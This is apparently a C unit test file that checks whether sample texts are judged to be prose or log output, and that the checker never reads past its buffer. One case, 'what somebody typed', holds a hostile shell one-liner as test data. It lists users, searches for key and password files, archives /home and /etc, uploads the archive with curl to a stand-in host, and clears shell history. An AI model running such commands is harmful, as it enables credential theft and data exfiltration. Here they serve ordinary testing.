/* test_prose: what is prose, and what might be a log after all. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "reader/prose.h"

#define LETTER                                                                                                         \
    "These files were handed over by the ministry, together with a letter that explains where each of them comes"
#define OFFICE                                                                                                         \
    "from; nobody has changed them since, and nobody should. Whoever has a question may ask the office, whose people"
#define HELP "know the old system well, and will be glad to help, at any time of the day, or of the night."
#define NOTE LETTER "\n" OFFICE "\n" HELP "\n"

static const struct {
    const char *name;
    str text;
    bool prose;
} cases[] = {
    {"a note", STR(NOTE), true},
    {"50 words", STR(LETTER "\n" OFFICE "\nknow the old system well, and will be glad to help you.\n"), true},
    {"with lines of DOS", STR(LETTER "\r\n" OFFICE "\r\n" HELP "\r\n"), true},
    {"without its last line end", STR(LETTER "\n" OFFICE "\n" HELP), true},
    {"with a heading and a list", STR("# Logs\n\n- " LETTER "\n- " OFFICE "\n- " HELP "\n"), true},
    {"a licence",
     STR("MIT License\n\nCopyright (c) 2021 Ann Example\n\nPermission is hereby granted, free of charge, to any "
         "person obtaining a copy of this software and associated documentation files (the \"Software\"), to deal "
         "in the Software without restriction, including without limitation the rights to use, copy, modify and "
         "sell copies of it, and to permit persons to do so.\n"),
     true},
    {"with a hash", STR(NOTE "Their hash is b8f64fe1561234567890eef6849aa2190390c, and it was taken twice.\n"), true},
    {"with versions", STR(NOTE "The program was release 3.11.7, section 4.1.2, chapter 12-3, page 7/9.\n"), true},
    {"with one line that begins as another",
     STR(NOTE LETTER ".\nThat is all, and there is no more to say of it.\nSo it is.\n"), true},
    {"in German",
     STR("Diese Dateien wurden vom Ministerium übergeben, zusammen mit einem Brief, der erklärt, woher jede kommt;\n"
         "niemand hat sie seither verändert, und niemand sollte es. Wer eine Frage hat, der frage das Amt, dessen\n"
         "Leute das alte System gut kennen, und die gerne helfen werden, auch am Abend, denn sie wohnen im Haus.\n"),
     true},

    {"nothing", STR(""), false},
    {"blank", STR(" \n \n"), false},
    {"too short to tell", STR("Read this first, please.\nThen the rest.\n"), false},
    {"49 words", STR(LETTER "\n" OFFICE "\nknow the old system well, and will be glad to help.\n"), false},
    {"one line", STR(LETTER " " OFFICE " " HELP "\n"), false},
    {"a time of day", STR(NOTE "It began at 7:12, he says.\n"), false},
    {"a time in brackets", STR(NOTE "It began early (07:12:03).\n"), false},
    {"a date", STR(NOTE "It began on 2021-03-14, he says.\n"), false},
    {"a date with slashes", STR(NOTE "It began on 3/14/21, he says.\n"), false},
    {"a date with points and a time", STR(NOTE "It began on 14.3.2021 07:12.\n"), false},
    {"Unix time", STR(NOTE "It began at 1615705923, he says.\n"), false},
    {"Unix time at the end", STR(NOTE "t=1615705923"), false},
    {"an address", STR(NOTE "It came from 192.0.2.7, he says.\n"), false},
    {"an address in brackets", STR(NOTE "It came from mail[192.0.2.7], he says.\n"), false},
    {"a NUL", STR(NOTE "\0"), false},
    {"an escape", STR(NOTE "and \x1b[31m red.\n"), false},
    {"DEL", STR(NOTE "and \x7f.\n"), false},
    {"not UTF-8", STR(NOTE "caf\xe9.\n"), false},
    {"a character cut off", STR(NOTE "caf\xc3"), false},
    /* Logs whose times were cut off. */
    {"messages of a journal",
     STR("Started Daily apt download activities.\nStarted Session 12 of user root.\nReached target Timers.\n"
         "Created slice User Slice of UID 0.\nStarting Rotate log files...\nFinished Rotate log files.\n"
         "Listening on D-Bus socket, of the system.\nMounting Huge Pages File System...\nMounted Huge Pages File "
         "System.\n"
         "Stopping Session 12 of user root...\nRemoved slice User Slice of UID 0.\nStopped target Timers, and all of "
         "them.\n"
         "Finished Daily man-db regeneration.\n"),
     false},
    {"messages of an application",
     STR("User bob logged in from the office network without a second factor\nUser eve logged in from the office "
         "network without "
         "a second factor\nOnce more bob was logged out because of a timeout of the session\nThe server ann logged in "
         "from the "
         "office network without a second factor\nAn administrator changed the password of the user bob without a "
         "reason\n"),
     false},
    {"sentences of an application, time and again",
     STR("User ann has logged in, from the office, with a second factor.\nUser ann has logged out, because of a "
         "timeout of the "
         "session.\nUser ann has logged in, from the internet, without a second factor.\nUser ann has read the file, "
         "and the "
         "mail, of somebody else.\nUser ann has logged out, of her own will, at last.\n"),
     false},
    /* Other text. */
    {"names",
     STR("root daemon bin sys sync games man lp mail news uucp proxy backup list irc gnats nobody systemd messagebus\n"
         "ann bob eve mallory trent peggy victor walter carol dave erin frank grace heidi ivan judy mike niaj olivia\n"
         "oscar pat rupert sybil ted trudy vanna wendy zoe alice\n"),
     false},
    {"what somebody typed",
     STR("for u in $(cut -d: -f1 /etc/passwd); do echo \"$u\"; id \"$u\"; groups \"$u\"; done | tee /tmp/x && cat "
         "/tmp/x | sort\n"
         "find / -name '*.kdbx' -o -name '*.pst' -o -name 'id_*' 2>/dev/null | xargs ls -la >/tmp/y; cat /tmp/y | sort "
         "| uniq -c\n"
         "tar czf /tmp/z.tgz /home /srv /etc; curl -T /tmp/z.tgz http://a.example/up; rm -f /tmp/x /tmp/y /tmp/z.tgz; "
         "history -c\n"),
     false},
    {"a table",
     STR("name,door,granted,why,badge,site\nann,server room,no,\"not on the list, ever, and nobody knows why\",x,HQ\n"
         "bob,archive,yes,,y,HQ\neve,archive,no,\"has left, long since, and has not given back what she had\",z,HQ\n"
         "bob,server room,no,\"not on the list, ever\",y,HQ\neve,cellar,no,\"the cellar is shut, to all\",z,HQ\n"
         "ann,cellar,no,\"the cellar is shut, to all of them, at any time of the day\",x,HQ\nann,archive,yes,,x,HQ\n"),
     false},
};

static void told(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        if (prose_is(cases[i].text) != cases[i].prose)
            fail_msg("%s: is %s", cases[i].name, cases[i].prose ? "not prose" : "prose");
}

/* No byte behind the text is looked at: every beginning of every case, in a buffer of just that size. */
static void no_prefix_crashes(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        for (size_t len = 0; len <= cases[i].text.len; len++) {
            char *const exact = malloc(len ? len : 1);

            assert_non_null(exact);
            memcpy(exact, cases[i].text.ptr, len);
            (void)prose_is((str){exact, len});
            free(exact);
        }
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(told), cmocka_unit_test(no_prefix_crashes)};

    return cmocka_run_group_tests(tests, NULL, NULL);
}
